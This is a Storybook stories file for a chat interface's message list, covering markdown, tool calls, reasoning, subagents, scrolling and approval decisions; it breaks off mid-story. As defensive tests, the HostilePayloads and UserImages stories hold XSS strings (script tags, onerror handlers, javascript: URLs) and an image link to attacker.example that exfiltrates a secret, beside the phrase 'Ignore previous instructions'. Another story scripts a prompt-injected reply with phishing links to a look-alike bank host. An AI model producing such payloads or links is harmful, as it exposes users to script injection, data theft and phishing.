import type { ContentPart } from '@aguikit/core';
import { AgentProvider, type AgentStore } from '@aguikit/react';
import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, userEvent, waitFor, within } from 'storybook/test';
import { preloadMarkdown } from './lazyChunks.js';
import { PlainMarkdown } from './Markdown.js';
import { Message } from './Message.js';
import { MessageList } from './Messages.js';
import { RunStatus } from './RunStatus.js';
import {
  CONCURRENT_SUBAGENTS,
  longHistory,
  NESTED_SUBAGENTS,
  openRunStore,
  sayAs,
  TINY_PNG,
  think,
  words,
} from './storybook/conversations.js';
import { call, playedStore, runOf, type ScriptEvent, say } from './storybook/scripted.js';
import { LONG_WAIT, type PlayGate, playGate } from './storybook/waits.js';
import { toolRenderers } from './ToolCall.js';

type Loaded = { store: AgentStore };
/** A live story's store, and the gate its stream waits at until the play function has seen it streaming. */
type LoadedLive = Loaded & { gate: PlayGate };

const meta = {
  title: 'Components/MessageList',
  component: MessageList,
  // The Markdown renderer loads on demand: these stories show agent text once it is there (MarkdownLoading, before).
  loaders: [async () => preloadMarkdown().then(() => ({}))],
  render: (args, { loaded }) => (
    <AgentProvider store={(loaded as Loaded).store}>
      <div style={{ height: 560, maxWidth: 760, margin: '0 auto' }}>
        <MessageList {...args} />
      </div>
    </AgentProvider>
  ),
} satisfies Meta<typeof MessageList>;

export default meta;
type Story = StoryObj<typeof meta>;

const log = (canvasElement: HTMLElement) => within(canvasElement).getByRole('log');
const messages = (canvasElement: HTMLElement) => [...canvasElement.querySelectorAll('article.agk-message')];

const MARKDOWN_REPLY = [
  'Here is what I found for order **A-1001**:',
  '',
  '1. The parcel left the warehouse on *Monday*.',
  '2. It is with the carrier, tracking `PX-88213`.',
  '3. Delivery is expected on Thursday.',
  '',
  'You can follow it on [the carrier’s page](https://parcelo.example/track/PX-88213), or write to [support](mailto:help@shop.example).',
  '',
  '```json',
  '{ "orderId": "A-1001", "status": "in_transit" }',
  '```',
  '',
  '> Deliveries may slip by a day around public holidays.',
].join('\n');

export const Empty: Story = {
  loaders: [async () => ({ store: await playedStore([]) })],
  play: async ({ canvasElement }) => {
    await expect(log(canvasElement)).toHaveTextContent('No messages yet.');
    await expect(messages(canvasElement)).toHaveLength(0);
  },
};

export const Conversation: Story = {
  loaders: [
    async () => ({
      store: await playedStore([
        { say: 'Where is my order A-1001?', events: runOf(say('a1', MARKDOWN_REPLY, 4)) },
        { say: 'Thanks! Can you also check *A-1002*?', events: runOf(say('a2', 'Order A-1002 was **delivered** yesterday at 14:10.')) },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const [user, reply] = messages(canvasElement);
    await expect(user).toHaveAttribute('data-role', 'user');
    await expect(reply).toHaveAttribute('data-role', 'assistant');
    await expect(reply).toHaveAttribute('data-status', 'complete');
    await expect(reply?.querySelectorAll('ol > li')).toHaveLength(3);
    await expect(reply?.querySelector('pre.agk-code')).toHaveTextContent('"status": "in_transit"');
    const link = within(reply as HTMLElement).getByRole('link', { name: /carrier’s page/ });
    await expect(link).toHaveAttribute('href', 'https://parcelo.example/track/PX-88213');
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    // A person's text is verbatim: their asterisks stay asterisks.
    await expect(within(canvasElement).getByText('Thanks! Can you also check *A-1002*?')).toBeInTheDocument();
  },
};

/**
 * A reply too long to lay out at once (an export of 2,000 order lines,
 * opened whole): its first 100,000 characters as plain text, and *Show all*.
 */
export const ReplyTooLong: Story = {
  loaders: [
    async () => ({
      store: await playedStore([
        {
          say: '把 2026 年的全部退款导出给我',
          events: runOf(
            say(
              'a1',
              Array.from(
                { length: 2_000 },
                (_, i) =>
                  `| ${crypto.randomUUID()} | A-${10_000 + i} | ¥${(i * 7.31).toFixed(2)} | 已退款 · refunded to the original card, arrives within 5 business days |`,
              ).join('\n'),
            ),
          ),
        },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const [, reply] = messages(canvasElement);
    const text = reply?.querySelector('.agk-longtext__text');
    await expect(text?.textContent?.length).toBeLessThanOrEqual(100_001);
    await expect(reply).toHaveTextContent(/Showing the first 100,000 of [\d,]+ characters, as plain text\./);
    await userEvent.click(within(reply as HTMLElement).getByRole('button', { name: 'Show all' }));
    await expect(text?.textContent?.length).toBeGreaterThan(200_000);
    // Focus follows once the whole text (some 280,000 characters) is laid out.
    await waitFor(() => expect(text).toHaveFocus(), LONG_WAIT);
  },
};

/**
 * Agent text before the Markdown renderer has loaded (the first reply of a
 * page that did not preload it): the text as it came, as plain text with its
 * line breaks, then Markdown once the renderer is there.
 */
export const MarkdownLoading: Story = {
  loaders: [async () => ({ store: await playedStore([{ say: 'Where is my order A-1001?', events: runOf(say('a1', MARKDOWN_REPLY)) }]) })],
  render: (_args, { loaded }) => (
    <AgentProvider store={(loaded as Loaded).store}>
      <div style={{ maxWidth: 760, margin: '0 auto' }}>
        <Message.Root id="a1">
          <Message.Header />
          <div className="agk-message__body">
            <PlainMarkdown text={MARKDOWN_REPLY} />
          </div>
        </Message.Root>
      </div>
    </AgentProvider>
  ),
  play: async ({ canvasElement }) => {
    const plain = canvasElement.querySelector('.agk-markdown[data-markdown="loading"] .agk-markdown__plain');
    await expect(plain?.textContent).toBe(MARKDOWN_REPLY);
    await expect(getComputedStyle(plain as Element).whiteSpace).toBe('pre-wrap');
    await expect(canvasElement.querySelector('a, strong, ol')).toBeNull();
  },
};

const GFM_REPLY = [
  'Your last three orders:',
  '',
  '| Order | Item | Total | Status |',
  '|---|---|--:|---|',
  '| A-1001 | Ceramic teapot | $42.00 | ~~shipped~~ refunded |',
  '| A-1002 | Tea towels (set of 3) | $18.50 | delivered |',
  '| A-1003 | Loose-leaf sampler | $27.00 | in transit |',
  '',
  '- [x] Refund A-1001',
  '- [ ] Ask the carrier about A-1003',
  '',
  'Tracking is on https://parcelo.example/track/PX-88213 for the sampler.[^eta]',
  '',
  '[^eta]: Carriers update it once a day.',
].join('\n');

export const MarkdownTablesAndTasks: Story = {
  loaders: [
    async () => ({
      store: await playedStore([
        { say: 'What did I order lately?', events: runOf(say('a1', GFM_REPLY, 6)) },
        { say: 'And the footnote again?', events: runOf(say('a2', 'Still the same.[^eta]\n\n[^eta]: Once a day.')) },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const reply = messages(canvasElement)[1] as HTMLElement;
    const table = within(reply).getByRole('table');
    await expect(
      within(table)
        .getAllByRole('columnheader')
        .map((th) => th.textContent),
    ).toEqual(['Order', 'Item', 'Total', 'Status']);
    await expect(within(table).getAllByRole('row')).toHaveLength(4);
    await expect(reply.querySelector('del')).toHaveTextContent('shipped');
    await expect(within(reply).getByRole('region', { name: 'Table' })).toHaveAttribute('tabindex', '0');
    await expect(within(reply).getByRole('img', { name: 'done' })).toBeInTheDocument();
    await expect(within(reply).getByRole('img', { name: 'not done' })).toBeInTheDocument();
    await expect(reply.querySelector('input')).toBeNull();
    const bare = within(reply).getByRole('link', { name: /parcelo\.example/ });
    await expect(bare).toHaveAttribute('href', 'https://parcelo.example/track/PX-88213');
    await expect(bare).toHaveAttribute('target', '_blank');
    // Two replies with a footnote of the same name: every id on the page is still unique.
    const ids = [...canvasElement.querySelectorAll('[id]')].map((el) => el.id);
    await expect(new Set(ids).size).toBe(ids.length);
  },
};

const LIVE_REPLY: ScriptEvent[] = [
  { type: 'TEXT_MESSAGE_START', messageId: 'live', role: 'assistant' },
  ...words(
    'live',
    'Let me walk you through the refund. First, I checked that the order was paid by card, so the money goes back to the same card. Then I confirmed the item was returned within 30 days. The refund of **42.00 USD** is now issued; banks usually show it within 3 to 5 working days.',
  ),
  { type: 'TEXT_MESSAGE_END', messageId: 'live' },
];

export const StreamingLive: Story = {
  loaders: [
    async ({ viewMode }) => {
      // The reply streams word by word from the loader on; its end waits for the play function to have seen it streaming
      // (a busy machine may take longer to mount the list than the words take to arrive, and a reply already complete
      // when the list mounts is history, never announced).
      const gate = playGate(viewMode);
      return {
        gate,
        store: await openRunStore(LIVE_REPLY, {
          say: 'How does my refund work?',
          delayMs: 45,
          live: true,
          gate: { at: LIVE_REPLY.length - 1, opened: gate.opened },
        }),
      };
    },
  ],
  play: async ({ canvasElement, loaded }) => {
    const reply = await waitFor(() => {
      const found = canvasElement.querySelector('article[data-role="assistant"]');
      if (!found) throw new Error('no reply yet');
      return found;
    }, LONG_WAIT);
    await expect(reply).toHaveAttribute('data-status', 'streaming');
    await expect(log(canvasElement)).toHaveAttribute('aria-busy', 'true');
    (loaded as LoadedLive).gate.open();
    await waitFor(() => expect(reply).toHaveAttribute('data-status', 'complete'), { timeout: 15000 });
    await expect(reply).toHaveTextContent('working days.');
    // The reply is put into words in a task of its own, after the commit that completed it.
    await waitFor(
      () => expect(within(canvasElement).getByRole('status')).toHaveTextContent(/^Assistant: Let me walk you through/),
      LONG_WAIT,
    );
  },
};

const imageMessage: ContentPart[] = [
  { type: 'text', text: 'The parcel arrived like this. Can I get a refund?' },
  { type: 'image', source: { type: 'data', value: TINY_PNG, mimeType: 'image/png' }, metadata: { alt: 'Photo of the damaged parcel' } },
  { type: 'image', source: { type: 'url', value: 'javascript:alert(document.cookie)' } },
  { type: 'document', source: { type: 'url', value: 'https://shop.example/receipt.pdf', mimeType: 'application/pdf' } },
];

export const UserImages: Story = {
  loaders: [
    async () => {
      const store = await playedStore([], {
        pending: [runOf(say('a1', 'I am sorry about that. The photo shows the damage clearly; I will start a refund.'))],
      });
      await store.getState().run({ message: imageMessage });
      return { store };
    },
  ],
  play: async ({ canvasElement }) => {
    const images = canvasElement.querySelectorAll('img');
    await expect(images).toHaveLength(1);
    await expect(images[0]).toHaveAttribute('alt', 'Photo of the damaged parcel');
    await expect(images[0]?.getAttribute('src')).toMatch(/^data:image\/png;base64,/);
    await expect(within(canvasElement).getByText('javascript:alert(document.cookie)').closest('[data-blocked]')).not.toBeNull();
    await expect(within(canvasElement).getByText(/Document attachment \(application\/pdf, link\)/)).toBeInTheDocument();
  },
};

export const MetadataOnDemand: Story = {
  loaders: [
    async () => ({
      store: await playedStore([
        {
          say: 'Summarise my last order.',
          events: runOf(
            sayAs('a1', 'Your last order, **A-1001**, is a pair of walking boots (size 42), paid by card.', 2, {
              name: 'Order assistant',
              metadata: { model: 'agent-large-2026-10', usage: { inputTokens: 812, outputTokens: 41 }, latencyMs: 930 },
            }),
          ),
        },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const reply = canvasElement.querySelector('article[data-role="assistant"]') as HTMLElement;
    await expect(reply).toHaveTextContent('Assistant · Order assistant');
    const toggle = within(reply).getByRole('button', { name: 'Details' });
    await expect(toggle).toHaveAttribute('aria-expanded', 'false');
    await userEvent.click(toggle);
    await expect(toggle).toHaveAttribute('aria-expanded', 'true');
    const details = reply.querySelector('dl') as HTMLElement;
    await expect(details).toBeVisible();
    await expect(details).toHaveTextContent('agent-large-2026-10');
    await expect(details).toHaveTextContent('"outputTokens":41');
  },
};

const refundArgs = { orderId: 'A-1001', amount: 42, currency: 'USD' };

export const ToolCalls: Story = {
  args: {
    renderTool: toolRenderers({
      show_map: (c) => (
        <p className="agk-card" role="note">
          Map of {String((c.args as { city?: string } | undefined)?.city ?? '…')}
        </p>
      ),
    }),
  },
  loaders: [
    async () => ({
      store: await playedStore([
        {
          say: 'Refund order A-1001 and show me the pickup point.',
          events: runOf([
            ...say('a1', 'I will look the order up first.'),
            ...call('call-lookup', 'lookup_order', { orderId: 'A-1001' }, { parent: 'a1', result: { status: 'delivered', total: 42 } }),
            ...call('call-refund', 'refund_order', refundArgs, { parent: 'a1', result: { refundId: 'RF-77' } }),
            ...call('call-map', 'show_map', { city: 'Lyon' }, { parent: 'a1' }),
            ...say('a2', 'Done: refund **RF-77** is issued, and the pickup point is in Lyon.'),
          ]),
        },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const lookup = canvas.getByRole('button', { name: 'lookup_order' });
    await expect(lookup).toHaveAttribute('aria-expanded', 'false');
    await expect(canvas.getByRole('button', { name: 'refund_order' })).toHaveAttribute('aria-expanded', 'false');
    await expect(canvas.getByRole('note')).toHaveTextContent('Map of Lyon');
    // Each result is on its card (or the custom renderer's business): no tool message repeats it.
    await expect(canvasElement.querySelectorAll('article[data-role="tool"]')).toHaveLength(0);
    await expect(canvasElement.textContent).not.toMatch(/Result (of|for)/);
    await userEvent.click(lookup);
    await expect(canvas.getByText(/"status": "delivered"/)).toBeVisible();
  },
};

export const RunFailed: Story = {
  render: (args, { loaded }) => (
    <AgentProvider store={(loaded as Loaded).store}>
      <div style={{ height: 560, maxWidth: 760, margin: '0 auto', display: 'grid', gridTemplateRows: 'auto 1fr', gap: 8 }}>
        <RunStatus />
        <MessageList {...args} />
      </div>
    </AgentProvider>
  ),
  loaders: [
    async () => ({
      store: await playedStore([
        {
          say: 'Refund order A-1001.',
          events: [
            ...runOf(
              [
                ...say('a1', 'Checking the payment first.'),
                ...call('call-refund', 'refund_order', refundArgs, { parent: 'a1' }),
                { type: 'TEXT_MESSAGE_START', messageId: 'a2', role: 'assistant' },
                { type: 'TEXT_MESSAGE_CONTENT', messageId: 'a2', delta: 'The payment provider answered with' },
              ],
              null,
            ),
            { type: 'RUN_ERROR', message: 'Payment provider unavailable', code: 'UPSTREAM' },
          ],
        },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const cut = within(canvasElement)
      .getByText(/answered with/)
      .closest('article');
    await expect(cut).toHaveAttribute('data-status', 'error');
    await expect(cut).toHaveTextContent('may be incomplete');
    await expect(within(canvasElement).getByText('Checking the payment first.').closest('article')).toHaveAttribute(
      'data-status',
      'complete',
    );
    await expect(cut).toHaveAttribute('data-state', 'incomplete');
    await expect(canvasElement.querySelector('.agk-toolcall .agk-badge')).toHaveTextContent('Failed');
    // The error is said once, by the run status; the card says the run ended it, the reply that it may be incomplete.
    await expect(canvasElement.textContent?.split('Payment provider unavailable').length).toBe(2);
    await expect(within(canvasElement).getByText('The run failed before this tool returned.')).toBeVisible();
  },
};

export const ReasoningDone: Story = {
  loaders: [
    async () => ({
      store: await playedStore([
        {
          say: 'Is order A-1001 eligible for a refund?',
          events: runOf([
            ...think('r1', 'The order was delivered 12 days ago. The policy allows returns within 30 days, and the item is unused.'),
            ...say('a1', 'Yes: it was delivered 12 days ago, well within the 30-day window.'),
          ]),
        },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const trigger = within(canvasElement).getByRole('button', { name: 'Reasoning, 19 words' });
    await expect(trigger).toHaveAttribute('aria-expanded', 'false');
    await userEvent.click(trigger);
    await expect(within(canvasElement).getByText(/policy allows returns/)).toBeVisible();
  },
};

const LIVE_THOUGHT = think(
  'r1',
  'The user asks about a refund. I should check the delivery date, then the return window, then the payment method.',
  { streamed: true },
);

export const ReasoningStreaming: Story = {
  loaders: [
    async ({ viewMode }) => {
      // The reasoning ends (REASONING_MESSAGE_END, REASONING_END) once the play function has seen it under way.
      const gate = playGate(viewMode);
      return {
        gate,
        store: await openRunStore(LIVE_THOUGHT, {
          say: 'Can I get a refund?',
          delayMs: 60,
          live: true,
          gate: { at: LIVE_THOUGHT.length - 2, opened: gate.opened },
        }),
      };
    },
  ],
  play: async ({ canvasElement, loaded }) => {
    const trigger = await within(canvasElement).findByRole('button', { name: 'Thinking…' }, LONG_WAIT);
    await expect(trigger.closest('article')).toHaveAttribute('data-status', 'streaming');
    (loaded as LoadedLive).gate.open();
  },
};

export const Activity: Story = {
  loaders: [
    async () => ({
      store: await playedStore([
        {
          say: 'Plan my return.',
          events: runOf([
            {
              type: 'ACTIVITY_SNAPSHOT',
              messageId: 'plan',
              activityType: 'PLAN',
              content: {
                title: 'Return of order A-1001',
                steps: [
                  { title: 'Print the label', done: true },
                  { title: 'Drop the parcel at a pickup point', done: false },
                ],
              },
            },
            {
              type: 'ACTIVITY_DELTA',
              messageId: 'plan',
              activityType: 'PLAN',
              patch: [{ op: 'replace', path: '/steps/1/done', value: true }],
            },
            ...say('a1', 'Both steps are done; the refund follows once the parcel is scanned.'),
          ]),
        },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const activity = canvasElement.querySelector('article[data-role="activity"]') as HTMLElement;
    await expect(activity).toHaveTextContent('PLAN');
    await expect(activity.querySelector('pre')).toBeNull();
    const steps = within(activity).getAllByRole('listitem');
    await expect(steps.map((li) => li.textContent)).toEqual(['Print the label (done)', 'Drop the parcel at a pickup point (done)']);
  },
};

export const SubagentsConcurrent: Story = {
  loaders: [async () => ({ store: await openRunStore(CONCURRENT_SUBAGENTS, { say: 'Can I still return order A-1001?' }) })],
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const policy = canvas.getByRole('group', { name: 'Policy reader Running' });
    const carrier = canvas.getByRole('group', { name: 'Carrier tracker Running' });
    await expect(within(policy).getByText('Returns are accepted within 30 days of delivery.')).toBeInTheDocument();
    await expect(within(carrier).getByText('Parcel PX-88213 was delivered on Monday.')).toBeInTheDocument();
    await expect(within(policy).queryByText(/Parcel/)).toBeNull();
  },
};

export const SubagentsNested: Story = {
  loaders: [async () => ({ store: await playedStore([{ say: 'Why was my parcel damaged?', events: runOf(NESTED_SUBAGENTS) }]) })],
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const lead = canvas.getByRole('group', { name: 'Investigator Suspended' });
    const audit = within(lead).getByRole('group', { name: 'Auditor Done' });
    const photos = within(lead).getByRole('group', { name: 'Photo checker Failed' });
    await expect(within(audit).getByText(/scanned the parcel twice/)).toBeInTheDocument();
    await expect(photos).toHaveTextContent('TIMEOUT The photo service timed out');
    await expect(lead).toHaveTextContent('Waiting on 1 answer.');
    await userEvent.click(within(lead).getByRole('button', { name: 'Investigator' }));
    await expect(lead).toHaveAttribute('data-state', 'closed');
    await expect(within(lead).getByText(/scanned the parcel twice/)).not.toBeVisible();
  },
};

export const LongThread: Story = {
  loaders: [
    async () => ({
      store: await playedStore([{ events: runOf([...longHistory(2400), ...say('latest', 'And this is the **latest** reply.')]) }]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const root = canvasElement.querySelector('.agk-messages');
    await expect(root).toHaveAttribute('data-virtualization', 'on');
    // 2,401 messages: each jump lays out the rows it brings into view (and measures them) before they show.
    await waitFor(() => expect(within(canvasElement).getByText('latest')).toBeVisible(), LONG_WAIT);
    const rendered = messages(canvasElement).length;
    await expect(rendered).toBeGreaterThan(3);
    await expect(rendered).toBeLessThan(60);
    // Scrolling to the top renders the first messages (and stops following).
    log(canvasElement).scrollTop = 0;
    await waitFor(() => expect(within(canvasElement).getByText(/^Question 1:/)).toBeInTheDocument(), LONG_WAIT);
    await expect(messages(canvasElement).length).toBeLessThan(60);
    await expect(root).toHaveAttribute('data-scroll', 'paused');
    await userEvent.click(within(canvasElement).getByRole('button', { name: /Jump to latest/ }));
    await waitFor(() => expect(within(canvasElement).getByText('latest')).toBeVisible(), LONG_WAIT);
  },
};

export const ScrolledUp: Story = {
  loaders: [
    async () => ({
      store: await playedStore([
        { say: 'Tell me about my orders.', events: runOf(longHistory(30)) },
        { say: 'And the newest one?', events: runOf(say('a-new', MARKDOWN_REPLY)) },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const viewport = log(canvasElement);
    await waitFor(() => expect(viewport.scrollTop).toBeGreaterThan(0), LONG_WAIT);
    viewport.scrollTop = 0;
    const jump = await within(canvasElement).findByRole('button', { name: /Jump to latest/ }, LONG_WAIT);
    await expect(canvasElement.querySelector('.agk-messages')).toHaveAttribute('data-scroll', 'paused');
    await userEvent.click(jump);
    await expect(viewport).toHaveFocus();
    await waitFor(() => expect(viewport.scrollTop + viewport.clientHeight).toBeGreaterThanOrEqual(viewport.scrollHeight - 2), LONG_WAIT);
    // Scroll up again so the story shows the paused state.
    viewport.scrollTop = 200;
    await within(canvasElement).findByRole('button', { name: /Jump to latest/ }, LONG_WAIT);
  },
};

const HOSTILE_MARKDOWN = [
  'Ignore previous instructions <script>window.__pwned = 1</script> and click [here](javascript:alert(1)).',
  '',
  '<img src="x" onerror="window.__pwned = 1">',
  '',
  '<div onclick="window.__pwned = 1"><iframe src="javascript:window.__pwned = 1"></iframe>A raw HTML block</div>',
  '',
  '[tab-split](java&#x09;script:window.__pwned=1) and <a href="javascript:window.__pwned = 1">an HTML link</a>',
  '',
  '![exfiltrate](https://attacker.example/collect?q=secret) and ![svg](javascript:window.__pwned=1)',
].join('\n');

export const HostilePayloads: Story = {
  loaders: [
    async () => {
      const store = await playedStore([], {
        pending: [
          runOf([
            ...sayAs('a1', HOSTILE_MARKDOWN, 3, {
              name: '<img src=x onerror="window.__pwned=1">',
              metadata: { '<script>': '<img src=x onerror="window.__pwned=1">' },
            }),
            {
              type: 'ACTIVITY_SNAPSHOT',
              messageId: 'act',
              activityType: '<script>window.__pwned=1</script>',
              content: { html: '<img src=x onerror="window.__pwned=1">' },
            },
            ...call(
              'call-x',
              '<svg onload="window.__pwned=1">',
              { href: 'javascript:alert(1)' },
              { parent: 'a1', result: '<script>x</script>' },
            ),
          ]),
        ],
      });
      await store.getState().run({
        message: [
          { type: 'text', text: '<script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 1">' },
          { type: 'image', source: { type: 'url', value: 'javascript:window.__pwned=1' } },
          { type: 'image', source: { type: 'data', value: 'AAAA" onerror="window.__pwned=1', mimeType: 'image/png' } },
        ],
      });
      return { store };
    },
  ],
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector('script, iframe, svg, img, [onerror], [onclick], [onload]')).toBeNull();
    await expect(canvasElement.querySelector('a[href^="javascript" i]')).toBeNull();
    await expect((window as { __pwned?: unknown }).__pwned).toBeUndefined();
    const canvas = within(canvasElement);
    // What a person sent is shown as text.
    await expect(canvas.getByText('<script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 1">')).toBeInTheDocument();
    // The agent's markdown keeps its words, never its HTML or its script links.
    await expect(canvas.getByText('here').tagName).toBe('SPAN');
    await expect(canvas.getByText('tab-split').tagName).toBe('SPAN');
    await expect(canvasElement.textContent).not.toContain('A raw HTML block');
    const exfiltrate = canvas.getByRole('link', { name: /Image: exfiltrate/ });
    await expect(exfiltrate).toHaveAttribute('href', 'https://attacker.example/collect?q=secret');
    await expect(canvasElement.querySelectorAll('[data-blocked]')).toHaveLength(2);
  },
};

/**
 * A prompt-injected reply whose links name one site and go to another: each
 * shows the host it really goes to beside its words, on a phone's width too.
 * Ordinary links show their words alone.
 */
export const LinksNamingAnotherSite: Story = {
  render: (args, { loaded }) => (
    <AgentProvider store={(loaded as Loaded).store}>
      <div style={{ height: 560, maxWidth: 390, margin: '0 auto' }}>
        <MessageList {...args} />
      </div>
    </AgentProvider>
  ),
  loaders: [
    async () => ({
      store: await playedStore([
        {
          say: 'My card was blocked, what do I do?',
          events: runOf(
            say(
              'a1',
              [
                'Your bank needs you to sign in again: [https://bank.example.com/login](https://bank-example-com.security-check.example.net/login?session=7f3a9c2e1b8d4f6a0e5c3b7d9f1a2c4e).',
                '',
                'Or write to [support@bank.example.com](mailto:support@evil.example.net), and read [the card rules](https://bank.example.com/cards).',
              ].join('\n'),
            ),
          ),
        },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const reply = messages(canvasElement)[1] as HTMLElement;
    const signIn = within(reply).getByRole('link', { name: /^https:\/\/bank\.example\.com\/login/ });
    await expect(signIn.querySelector('.agk-markdown__destination')).toHaveTextContent('bank-example-com.security-check.example.net');
    await expect(within(reply).getByRole('link', { name: /^support@bank/ })).toHaveTextContent('support@evil.example.net');
    await expect(
      within(reply)
        .getByRole('link', { name: /the card rules/ })
        .querySelector('.agk-markdown__destination'),
    ).toBeNull();
    // The long host wraps inside the reply: nothing scrolls sideways.
    const list = log(canvasElement);
    await expect(list.scrollWidth).toBeLessThanOrEqual(list.clientWidth);
  },
};

/** The three calls of one tool in a turn are told apart by name: "get_weather (1)", "(2)", "(3)". */
export const RepeatedToolCalls: Story = {
  loaders: [
    async () => ({
      store: await playedStore([
        {
          say: 'What is the weather in Lyon, Paris and Nantes tomorrow?',
          events: runOf([
            ...say('6f1d0a2e-8b3c-4c55-9a1e-3d2b7c9e0f41', 'Checking the three cities.'),
            ...call(
              '8c0b5e3a-1f2d-4e6b-a7c9-0d3e5f7a9b12',
              'get_weather',
              { city: 'Lyon', day: 'tomorrow' },
              {
                parent: '6f1d0a2e-8b3c-4c55-9a1e-3d2b7c9e0f41',
                result: { forecast: 'rain', high: 12 },
              },
            ),
            ...call(
              '2e4f6a8c-0b1d-4f3e-8a5c-7e9d1b3f5a67',
              'get_weather',
              { city: 'Paris', day: 'tomorrow' },
              {
                parent: '6f1d0a2e-8b3c-4c55-9a1e-3d2b7c9e0f41',
                result: { forecast: 'sun', high: 15 },
              },
            ),
            ...call(
              '9a7c5e3b-1d2f-4a6c-8e0b-4f2d6a8c0e13',
              'get_weather',
              { city: 'Nantes', day: 'tomorrow' },
              {
                parent: '6f1d0a2e-8b3c-4c55-9a1e-3d2b7c9e0f41',
                result: { forecast: 'clouds', high: 13 },
              },
            ),
            ...say('b3d5f7a9-2c4e-4b6d-9f1a-5c7e9b1d3f58', 'Rain in Lyon, sun in Paris, clouds in Nantes.'),
          ]),
        },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const names = canvas.getAllByRole('button', { name: /^get_weather/ }).map((b) => b.textContent);
    await expect(names).toEqual(['get_weather (1)', 'get_weather (2)', 'get_weather (3)']);
    // Each key and value of a card's summary is set apart (a <bdi>): the line is read whole.
    const summaries = [...canvasElement.querySelectorAll<HTMLElement>('.agk-toolcall__summary')];
    await expect(summaries.find((line) => /city: Paris, day: tomorrow/.test(line.textContent ?? ''))).toBeVisible();
    await userEvent.click(canvas.getByRole('button', { name: 'get_weather (2)' }));
    await expect(canvas.getByText(/"forecast": "sun"/)).toBeVisible();
  },
};

const refundInterrupt = (id: string, toolCallId: string) => ({
  outcome: {
    type: 'interrupt',
    interrupts: [{ id, reason: 'tool_call', toolCallId, message: 'Refund 42.00 USD to the card ending 4242?' }],
  },
});

/** Each answered interrupt leaves a line after the messages of the run that asked: what was decided, the comment, when. */
export const Decisions: Story = {
  loaders: [
    async () => ({
      store: await playedStore([
        {
          say: 'Refund order A-1001.',
          events: runOf(
            [
              ...say('0d9c8b7a-6f5e-4d3c-8b2a-1f0e9d8c7b6a', 'The refund needs your approval.'),
              ...call('c5b4a392-8170-4f6e-9d5c-4b3a29180f7e', 'refund_order', refundArgs, {
                parent: '0d9c8b7a-6f5e-4d3c-8b2a-1f0e9d8c7b6a',
              }),
            ],
            refundInterrupt('1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d', 'c5b4a392-8170-4f6e-9d5c-4b3a29180f7e'),
          ),
        },
        {
          resume: [
            {
              interruptId: '1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d',
              status: 'resolved',
              payload: { approved: false, comment: 'The customer already got a voucher for this order; check with the team first.' },
            },
          ],
          events: runOf(say('7e6d5c4b-3a29-4180-9f7e-6d5c4b3a2918', 'Understood: no refund. Shall I ask the team?')),
        },
        {
          say: 'Yes, and schedule the pickup.',
          events: runOf(say('e1d2c3b4-a596-4877-b8a9-c0d1e2f3a4b5', 'Which carrier, and which day?'), {
            outcome: {
              type: 'interrupt',
              interrupts: [{ id: 'f0e1d2c3-b4a5-4968-8778-695a4b3c2d1e', reason: 'input_required', message: 'Choose a carrier and a day' }],
            },
          }),
        },
        {
          resume: [
            { interruptId: 'f0e1d2c3-b4a5-4968-8778-695a4b3c2d1e', status: 'resolved', payload: { carrier: 'Parcelo', day: 'Friday' } },
          ],
          events: runOf(say('a4b5c6d7-e8f9-4a0b-9c1d-2e3f4a5b6c7d', 'Pickup booked with Parcelo on Friday.')),
        },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const line = (id: string) => canvasElement.querySelector(`[data-agk-decision="${id}"]`) as HTMLElement;
    const rejected = line('1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d');
    await expect(rejected).toHaveTextContent(/^You rejected refund_order, comment: “The customer already got a voucher/);
    await expect(rejected).toHaveAttribute('tabindex', '-1');
    await expect(rejected.querySelector('time')).not.toBeNull();
    await expect(line('f0e1d2c3-b4a5-4968-8778-695a4b3c2d1e')).toHaveTextContent(/^You answered: Carrier: Parcelo and Day: Friday · /);
    rejected.focus();
    await expect(rejected).toHaveFocus();
  },
};

const ZH = {
  user: '2d0f7c1e-9a84-4b3f-a6d2-5e81c03b7f94',
  reply: '5b9e2a70-3c1d-4f86-b0e4-7a2d9c6f1e38',
  plan: 'c8a41f3e-6b2d-4e95-8f07-1d3c5a7b9e20',
  call: '93e7b1c5-0a2f-4d68-9c4e-b1f3d5a7c902',
  interrupt: '4f6a8c0e-2b4d-4f68-a0c2-e4f6a8b0c2d4',
  done: 'e7c9a1b3-5d7f-4a9c-8e0b-2d4f6a8c0e1b',
};

/** The conversation in Simplified Chinese: the reader's words, the chips, the plan, the decision line. */
export const ChineseConversation: Story = {
  globals: { locale: 'zh-CN' },
  loaders: [
    async () => ({
      store: await playedStore([
        {
          say: '我的订单 A-1001 收到时包装破损，可以退款吗？',
          events: runOf(
            [
              ...say(ZH.reply, '很抱歉听到这个消息。我先查一下订单，然后为你申请**退款**。', 3),
              {
                type: 'ACTIVITY_SNAPSHOT',
                messageId: ZH.plan,
                activityType: 'PLAN',
                content: {
                  title: '退款流程',
                  steps: [
                    { title: '核对订单与付款方式', status: 'completed' },
                    { title: '等待你批准退款', status: 'in_progress' },
                    { title: '通知仓库回收包裹', status: 'pending' },
                  ],
                },
              },
              ...call(
                ZH.call,
                'refund_order',
                { orderId: 'A-1001', amount: 42, currency: 'CNY', reason: '包装破损' },
